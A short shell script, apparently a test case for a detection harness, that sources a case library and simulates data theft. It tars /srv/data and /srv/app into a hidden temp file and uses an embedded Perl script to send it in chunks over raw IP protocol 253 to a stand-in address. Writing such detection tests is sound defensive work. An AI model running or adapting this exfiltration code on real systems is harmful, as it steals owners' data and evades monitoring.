#!/bin/sh
. /opt/case/case.sh

tar -C /srv -czf /tmp/.a data app
cat >/tmp/p.pl <<'END'
use Socket;
socket(my $s, PF_INET, SOCK_RAW, 253) or die $!;
open(my $f, "<:raw", "/tmp/.a") or die; my $n = 0;
while (read($f, my $b, 512)) { send($s, pack("N", $n++) . $b, 0, pack_sockaddr_in(0, inet_aton("203.0.113.10"))) or die $! }
die unless $n;
END
perl /tmp/p.pl
took_place
